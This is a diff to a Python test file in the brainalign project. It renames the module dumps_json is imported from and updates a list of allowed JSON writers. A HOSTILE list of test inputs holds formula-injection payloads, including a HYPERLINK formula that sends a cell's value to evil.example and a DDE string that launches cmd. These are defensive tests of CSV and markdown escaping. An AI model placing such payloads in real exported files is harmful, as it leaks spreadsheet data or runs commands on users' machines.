@@ -34,12 +34,12 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from test_reports_data import neural_record
 
-from brainalign._io import dumps_json
 from brainalign.cli import main
 from brainalign.cli._common import OutputPath
 from brainalign.models.pickle_scan import pickled_globals
 from brainalign.reports import ResultsStore
 from brainalign.reports.escape import FORMULA_PREFIXES, csv_text, markdown_text
+from brainalign.safe_files import dumps_json
 
 ROOT = Path(__file__).resolve().parents[1]
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
@@ -247,7 +247,7 @@ def _package_lines(pattern: str) -> set[str]:
 def test_json_and_report_csv_are_written_through_the_escaping_functions():
     """New writers cannot bypass the root fix: JSON through dumps_json, report CSVs through csv_text."""
     json_writers = {line.rsplit(":", 1)[0] for line in _package_lines(r"\bjson\.dumps?\(")}
-    assert json_writers <= {"brainalign/_io.py",                   # dumps_json itself
+    assert json_writers <= {"brainalign/safe_files.py",                   # dumps_json itself
                             "brainalign/activations/cache.py",     # a cache key's hash input, never written
                             "brainalign/records.py",               # part of a record's key, never parsed
                             "brainalign/reports/html.py"}          # a grouping key, read back at once
